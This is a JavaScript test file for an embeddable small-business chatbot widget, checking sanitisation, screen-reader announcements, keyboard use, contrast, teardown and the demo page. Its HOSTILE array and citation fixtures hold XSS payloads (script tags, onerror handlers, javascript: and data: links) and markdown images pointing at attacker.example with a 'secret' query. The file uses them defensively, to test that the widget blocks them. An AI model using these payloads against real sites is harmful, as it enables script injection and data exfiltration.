// The widget as part of a page: hostile text, screen readers, keyboard, contrast, leaving, the demo page.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { createRequire } from "node:module";
import test from "node:test";
import { QUESTION, chunk, end, numbered, scenario, showsText } from "./support/scenario.mjs";
import { frame } from "./support/source.mjs";

const HOSTILE = [
  "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>", "<math><a xlink:href=javascript:alert(1)>x</a></math>",
  "[click](javascript:alert(1))", "[click](data:text/html,<script>alert(1)</script>)", "[click](JAVA&#115;CRIPT:alert(1))",
  "![x](https://attacker.example/?q=secret)", "![x][y]\n\n[y]: https://attacker.example/?q=secret",
  "<iframe src=https://attacker.example></iframe>", "<style>@import 'https://attacker.example'</style>", "`<b>`", "[a](https://bank.example@attacker.example)",
  "\u202Egnp.exe", "<a href=\"javascript:alert(1)\">x</a>", "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|[x](vbscript:x)|d|",
];

test("hostile answers and sources run nothing and fetch nothing", async (t) => {
  const { gateway, page, ask, answer, requests } = await scenario(t);
  await ask("<b>bold?</b>");
  const connection = await gateway.nextConnection();
  await connection.next();
  const source = (await frame("citation")).citation;
  const citations = [
    { ...source, number: 1, url: "javascript:alert(1)", title: "<img src=x onerror=alert(1)>", quote: "\"><script>alert(1)</script>" },
    { ...source, number: 2, url: "data:text/html,x", heading_path: ["<svg onload=alert(1)>"] },
  ];
  const text = `${HOSTILE.join("\n\n")}\n\nSee [1] and [2].`;
  connection.send(await frame("start"));
  // Two characters at a time, so that every marker is cut somewhere.
  let seq = 1;
  for (let at = 0; at < text.length; at += 2) connection.send(await chunk(++seq, text.slice(at, at + 2)));
  connection.send(await end(++seq, text, { citations }));
  await showsText(answer, "See 1 and 2.");
  const found = await answer.evaluate((root) => ({
    elements: [...new Set([...root.querySelectorAll("*")].map(({ localName }) => localName))].sort(),
    addresses: [...root.getRootNode().querySelectorAll("a")].map(({ protocol }) => protocol),
    handlers: [...root.getRootNode().querySelectorAll("*")].flatMap((node) => node.getAttributeNames()).filter((name) => name.startsWith("on")),
  }));
  const harmless = ["a", "br", "button", "code", "div", "p", "table", "tbody", "td", "th", "thead", "tr", "span"];
  assert.deepEqual(found.elements.filter((name) => !harmless.includes(name)), []);
  assert.deepEqual(found.addresses.filter((protocol) => !/^https?:$/.test(protocol)), []);
  assert.deepEqual(found.handlers, []);
  assert.deepEqual(requests.filter((url) => !url.startsWith(gateway.origin)), []);
  assert.equal(await page.locator(".question").evaluate((node) => node.lastChild.data), "<b>bold?</b>");
  await answer.getByRole("button", { name: /Source 1/ }).click();
  const sheet = page.getByRole("dialog", { name: "Sources" });
  assert.equal(await sheet.locator("li").first().evaluate((node) => node.getRootNode().activeElement === node), true);
  assert.deepEqual(await sheet.evaluate((root) => [...root.querySelectorAll("a,img,script,svg[onload]")].map((node) => node.outerHTML)), []);
});

test("each finished sentence is announced once", async (t) => {
  const { gateway, page, ask } = await scenario(t);
  await page.evaluate(() => {
    window.heard = [];
    const region = document.querySelector("[data-smallbiz-chatbot]").shadowRoot.querySelector("[aria-live=polite]");
    new MutationObserver((changes) => {
      for (const { addedNodes } of changes) addedNodes.forEach((node) => window.heard.push(node.textContent));
    }).observe(region, { childList: true });
  });
  await ask();
  const connection = await gateway.nextConnection();
  await connection.next();
  connection.send(await frame("start"), await chunk(2, "We open at **11:00**. We clo"));
  await page.waitForFunction(() => window.heard.includes("We open at 11:00."));
  connection.send(await chunk(3, "se at 16:00. [1]"), await numbered("citation", 4), await numbered("end", 5, { text: "We open at **11:00**. We close at 16:00. [1]" }));
  await page.waitForFunction(() => window.heard.includes("1 source."));
  const heard = await page.evaluate(() => window.heard);
  assert.deepEqual(heard, ["Looking for an answer", "We open at 11:00.", "We close at 16:00.", "1 source."]);
});

test("keyboard, labels and contrast hold in light and dark", async (t) => {
  const axe = await readFile(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
  for (const colorScheme of ["light", "dark"]) {
    // The checker itself needs inline code, so this page alone has no policy.
    const { gateway, page, ask } = await scenario(t, {
      config: { suggestedQuestions: ["Do you repair tents?"] },
      gatewayOptions: { policy: "" },
      pageOptions: { colorScheme, reducedMotion: "reduce" },
    });
    await page.evaluate(axe);
    const violations = () => page.evaluate(async () => (await window.axe.run()).violations.map(({ id, nodes }) => `${id}: ${nodes[0].html}`));
    assert.deepEqual(await violations(), []);
    await ask();
    const connection = await gateway.nextConnection();
    await connection.next();
    connection.send(await frame("start"), await frame("notice"), await numbered("end", 3, { text: "**Yes.** `code` [1]\n\n| A | B |\n|--|--|\n| 1 | [x](/y) |" }));
    await page.locator(".source").waitFor();
    await ask("Again?");
    await connection.next();
    connection.send(await frame("error"));
    await page.locator(".problem").waitFor();
    assert.deepEqual(await violations(), []);
  }
});

test("Shift and Enter begin a new line, and the input is large enough for phones", async (t) => {
  const { gateway, page } = await scenario(t, { config: { theme: { fontSize: 12, primaryColor: "#ffdd00", borderRadius: "nonsense" } } });
  const input = page.getByLabel("Your question");
  await input.fill("one");
  await page.keyboard.press("Shift+Enter");
  await page.keyboard.type("two");
  assert.equal(await input.inputValue(), "one\ntwo");
  assert.equal(await input.evaluate((node) => getComputedStyle(node).fontSize), "16px");
  await page.keyboard.press("Enter");
  const connection = await gateway.nextConnection();
  assert.equal((await connection.next()).message, "one\ntwo");
  const colour = await page.locator(".question").evaluate((node) => getComputedStyle(node).backgroundColor);
  assert.equal(colour, "rgb(255, 221, 0)");
});

test("destroying leaves the page as it was and closes the connection", async (t) => {
  const { gateway, page, ask } = await scenario(t);
  await ask();
  await (await gateway.nextConnection()).next();
  await page.evaluate(() => window.SmallBizChatbot.destroy());
  assert.equal(await page.locator("#chatbot-container").evaluate((node) => node.childNodes.length), 0);
  assert.equal(await page.evaluate(() => window.SmallBizChatbot.getConnectionState()), "idle");
  await page.evaluate(() => window.SmallBizChatbot.init({ containerId: "chatbot-container" }));
  await page.getByLabel("Your question").waitFor();
});

test("the demo page works under the same policy", async (t) => {
  const { gateway, page, answer } = await scenario(t, { gatewayOptions: { pages: {} } });
  await page.locator(".suggestions").getByRole("button", { name: QUESTION }).click();
  const connection = await gateway.nextConnection();
  await connection.next();
  connection.send(await frame("start"), await frame("end", { seq: 2 }));
  await showsText(answer, "from 11:00 to 16:00");
});
